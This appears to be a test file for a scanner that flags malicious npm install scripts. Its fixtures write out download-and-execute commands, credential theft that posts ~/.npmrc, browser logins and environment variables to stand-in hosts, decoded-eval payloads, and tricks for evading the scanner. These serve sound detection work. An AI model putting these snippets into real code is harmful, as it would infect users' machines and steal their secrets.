/**
 * What an author hiding a payload from this scanner writes (a trial of 2026-12-01 modelled 39 shapes on
 * 2024–2025 npm malware; these got through before), and what ordinary code must still pass. Each case
 * is one install-time document as the scanner reads it.
 */
import { describe, expect, it } from 'vitest';
import { readableText } from '../../../src/scan/patterns.js';
import { describeContentFinding, scanDocuments } from '../../../src/scan/scan.js';
import type { ScanDocument } from '../../../src/scan/types.js';

const shell = (text: string): ScanDocument => ({ path: 'package.json (postinstall)', kind: 'shell', text });
const js = (text: string): ScanDocument => ({ path: 'index.js', kind: 'js', text });
const blocks = (doc: ScanDocument) => scanDocuments([doc]).filter((f) => f.confidence === 'high').map((f) => f.rule);
const findings = (doc: ScanDocument) => scanDocuments([doc]).map(describeContentFinding);

describe('download and execute, however the command is written', () => {
  it.each([
    ['a download as the code of sh -c', 'sh -c "$(curl -fsSL https://example.invalid/i.sh)"'],
    ['process substitution', 'bash <(curl -fsSL https://example.invalid/i.sh) || true'],
    ['eval of a download', 'eval "$(wget -qO- https://example.invalid/i.sh)"'],
    ['a pipe chain ending in a shell', 'curl -s https://example.invalid/i.sh | tee /tmp/.i | sh'],
    ['combined flags, saved, made executable, run', 'curl -sLo /tmp/.cache-x https://example.invalid/x && chmod +x /tmp/.cache-x && /tmp/.cache-x'],
    ['--output and a numeric chmod', 'curl -s --output /tmp/u https://example.invalid/u; chmod 755 /tmp/u; /tmp/u &'],
    ['python -c exec of a download', `python3 -c "import urllib.request as u;exec(u.urlopen('https://example.invalid/p.py').read())"`],
    ['PowerShell IEX of a WebClient download', `powershell -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('https://example.invalid/a.ps1')"`],
    ['certutil as a downloader', 'certutil -urlcache -split -f https://example.invalid/a.exe %TEMP%\\a.exe && %TEMP%\\a.exe'],
    ['node flags before -e', `node --input-type=module -e "const r=await fetch('https://example.invalid/p');eval(await r.text())"`],
    ['npx of a URL', 'npx -y https://example.invalid/pkg.tgz'],
  ])('%s', (_, command) => {
    expect(blocks(shell(command)), findings(shell(command)).join('\n')).toContain('download-execute');
  });

  it.each([
    ['indirect eval', `const https=require('https');\nhttps.get('https://example.invalid/p.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>{ (0,eval)(d); })});`],
    ['eval by a built name', `const https=require('https');\nhttps.get('https://example.invalid/p.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>globalThis['ev'+'al'](d))});`],
    ['a module compiled from a download', `const https=require('https'),M=require('module');\nhttps.get('https://example.invalid/p.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>new M('x')._compile(d,'x.js'))});`],
    ['curl | bash inside execSync', `const {execSync}=require('child_process');\nexecSync('curl -fsSL https://example.invalid/install | bash');`],
    ['the command and its runner built from pieces', `const cp=require('child'+'_process');\nconst host='198.51'+'.100.23';\ncp['ex'+'ec']('cu'+'rl -s http://'+host+'/x | s'+'h');`],
    ['node\'s internal spawn binding', `const s=process.binding('spawn_sync');\ns.spawn({file:'/bin/sh',args:['sh','-c','curl -s https://example.invalid/i | sh']});`],
  ])('JavaScript: %s', (_, text) => {
    expect(blocks(js(text)), findings(js(text)).join('\n')).toContain('download-execute');
  });
});

describe('credentials and the network, however they are named', () => {
  it.each([
    ['the https module under another name', `const fs=require('fs'),os=require('os'),h=require('https');\nconst t=fs.readFileSync(os.homedir()+'/.npmrc','utf8');\nh.request({hostname:'x.example.invalid',method:'POST'}).end(t);`],
    ['the file name in pieces', `const fs=require('fs'),os=require('os'),path=require('path'),h=require('https');\nconst t=fs.readFileSync(path.join(os.homedir(),'.np'+'mrc'),'utf8');\nh.request({hostname:'x.example.invalid'}).end(t);`],
    ['names in hex escapes, module in pieces', `var d=require('fs')['readFileSync'](require('os')['homedir']()+'/\\x2e\\x6e\\x70\\x6d\\x72\\x63');\nrequire('ht'+'tps')['req'+'uest']({hostname:'x.example.invalid'})['end'](d);`],
    ['the whole environment, spread', `fetch('https://x.example.invalid/e',{method:'POST',body:JSON.stringify({...process.env})});`],
    ['the whole environment copied, then serialised', `const {request}=require('https');\nconst env={...process.env};\nrequest({hostname:'x.example.invalid',method:'POST'}).end(Buffer.from(JSON.stringify(env)).toString('base64'));`],
    ['curl posting ~/.npmrc from execSync', `const {execSync}=require('child_process');\nexecSync('curl -s -X POST --data-binary @$HOME/.npmrc https://x.example.invalid/c');`],
    ['a browser\'s saved logins', `const fs=require('fs');\nconst db=fs.readFileSync(process.env.HOME+'/.config/google-chrome/Default/Login Data');\nfetch('https://x.example.invalid/u',{method:'POST',body:db});`],
  ])('%s', (_, text) => {
    expect(blocks(js(text)), findings(js(text)).join('\n')).toContain('credential-network');
  });
});

describe('code run straight out of a decoder', () => {
  it.each([
    ['eval of base64, split over lines', `const p='cmVxdWlyZSgnaHR0cHMnKS5nZXQo'+\n'J2h0dHBzOi8vZXhhbXBsZS5pbnZhbGlkL3AnKQ==';\neval(Buffer.from(p,'base64').toString());`],
    ['Function of char codes', `const a=[99,111,110,115,116];\nFunction(String.fromCharCode(...a))();`],
    ['new Function of atob', `new Function(atob('Y29uc29sZS5sb2coMSk='))();`],
  ])('%s', (_, text) => {
    expect(blocks(js(text)), findings(js(text)).join('\n')).toContain('decoded-eval');
  });
  it('Python: exec of base64', () => {
    const doc: ScanDocument = { path: 'setup.py', kind: 'python', text: 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n' };
    expect(blocks(doc)).toContain('decoded-eval');
  });
});

describe('ordinary install code stays quiet', () => {
  it.each([
    ['a comment that names .npmrc in a file that downloads', `/**\n *  You can add MY_INSTALLER_URL in .npmrc file too.\n */\nconst https = require('https');\nhttps.get(process.env.MY_INSTALLER_URL || 'https://example.invalid/driver.tgz', () => {});`],
    ['the environment spread into a child\'s, beside a download', `const https = require('https'); const { spawnSync } = require('child_process');\nhttps.get('https://registry.npmjs.org/x/-/x-1.0.0.tgz', () => {});\nspawnSync(process.execPath, ['bin/x', '--version'], { env: { ...process.env, X_BINARY_PATH: 'bin/x' } });`],
    ['the global object the old way', `var g = Function('return this')();\nmodule.exports = g;`],
    ['a fallback after a failed download (||, not a pipe)', 'curl -fsSL https://example.invalid/x.tgz -o x.tgz || sh ./build-from-source.sh'],
    ['a message telling people how to install by hand', `console.log('install it with: curl -fsSL https://example.invalid/install | sh');`],
    ['node -c (a syntax check) of an inline string', `node -c "require('https').get('x'); eval('1')"`],
    ['a minified line (high entropy, no encoded data)', `module.exports=${Array.from({ length: 400 }, (_, i) => `function f${i}(a,b){return a${'+-*/'[i % 4]}b*${i}}`).join(';')};`],
  ])('%s', (_, text) => {
    const doc = text.startsWith('curl') || text.startsWith('node -c') ? shell(text) : js(text);
    expect(findings(doc)).toEqual([]);
  });
});

describe('comments are blanked only where the reading is certain (a trial hid payloads behind the blanking)', () => {
  const curl = `require('child_process').execSync('curl -s http://evil.example/x | sh');`;
  it.each([
    ['a division read as a regular expression swallowed a quote, then a "/*" string opened a comment', `var a = 4, x = a / 2, y = "/"; var s = "/*";\n${curl}\nvar t = "*/";\n`],
    ['an HTML-like comment and a backtick', `x = 1 <!-- \`\nvar s = "\`; /*";\n${curl}\nvar t = "*/";\n`],
    ['past a hashbang line', `#!/usr/bin/env node\nconst n = 10, half = n / 2, sep = "/", c = "/*";\n${curl}\nconst end = "*/";\n`],
    ['a division after a call', `const r = f(x) / 2, s = "/*";\n${curl}\nconst e = "*/";\n`],
    ['a division after an index', `const r = a[0] / 2, s = "/*";\n${curl}\nconst e = "*/";\n`],
  ])('JavaScript: %s', (_, text) => {
    expect(blocks(js(text)), findings(js(text)).join('\n')).toContain('download-execute');
  });
  it.each([
    ['a single quote spanning lines', `echo 'start\n#'; curl -s http://evil.example/x | sh`],
    ['an escaped blank before #', 'echo x\\ #; curl -s http://evil.example/x | sh'],
    ['a heredoc', 'sh <<EOF\necho a #\nEOF\ncurl -s http://evil.example/x | sh #'],
  ])('shell: %s', (_, text) => {
    expect(blocks(shell(text)), findings(shell(text)).join('\n')).toContain('download-execute');
  });
  it('a regular expression where JavaScript reads one (after if (…), =, return) is read as one: its "//" is no comment', () => {
    const text = `if (ok) /\\/\\//.test(u);\nconst re = /https?:\\/\\//; // a comment about .npmrc\nfunction f() { return /x\\/\\/y/; }\n`;
    const readable = readableText(js(text));
    expect(readable).not.toContain('.npmrc');
    expect(readable).toContain('/https?:\\/\\//');
  });
});

describe('the text the rules read', () => {
  it('keeps every line and offset: comments become spaces, string pieces one literal', () => {
    const text = `const a = 'x' + 'y'; // .npmrc\n/* ~/.ssh/\n */ b('\\x41')`;
    const readable = readableText(js(text));
    expect(readable.length).toBe(text.length);
    expect(readable.split('\n').length).toBe(text.split('\n').length);
    expect(readable).toContain(`'xy'`);
    expect(readable).not.toContain('.npmrc');
    expect(readable).not.toContain('.ssh');
    expect(readable).toContain(`b('A'`);
  });

  it('never blanks code as a comment: comment marks inside strings, templates (nested too) and regular expressions stay code', () => {
    for (const text of [
      `const u = "http://x"; payload();`,
      'const t = `a ${`/*`} b`; payload(); const c = `*/`;',
      `if (x) /\\/*/.test(y); payload(); /*/ */`,
      `const r = /[/*]/; payload(); const s = '*/';`,
      `x = a / b; payload(); // c`,
    ]) expect(readableText(js(text)), text).toContain('payload()');
  });

  it('shell and Python: a # starts a comment only at a word\'s start and outside quotes', () => {
    const line = `echo "#x" a#b \${#v} # ~/.npmrc`;
    expect(readableText(shell(line))).toBe(line.replace('# ~/.npmrc', ' '.repeat('# ~/.npmrc'.length)));
    const py = `x = '#y'  # .pypirc`;
    expect(readableText({ path: 'setup.py', kind: 'python', text: py })).toBe(py.replace('# .pypirc', ' '.repeat('# .pypirc'.length)));
  });
});
